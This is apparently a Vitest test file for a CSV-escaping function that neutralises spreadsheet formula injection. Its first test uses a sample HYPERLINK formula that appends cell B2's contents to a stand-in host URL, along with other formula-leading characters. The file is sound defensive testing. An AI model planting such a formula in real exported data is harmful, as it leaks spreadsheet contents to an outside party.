import { describe, expect, it } from 'vitest';
import { csvCell } from './csv.std';

describe('csvCell', () => {
  it('neutralises text a spreadsheet would run as a formula, quoted or not', () => {
    expect(csvCell('=HYPERLINK("http://example.test/"&B2,"Appeal")')).toBe(`"'=HYPERLINK(""http://example.test/""&B2,""Appeal"")"`);
    for (const start of ['+', '-', '@', '\t', '\r']) expect(csvCell(`${start}SUM(A1:A9)`).replace(/^"/, '')).toMatch(/^'/);
  });

  it('leaves numbers, negative ones included, and plain text as they are', () => {
    expect(csvCell(-1.5)).toBe('-1.5');
    expect(csvCell(0)).toBe('0');
    expect(csvCell('fold towels')).toBe('fold towels');
    expect(csvCell('a, b')).toBe('"a, b"');
  });
});
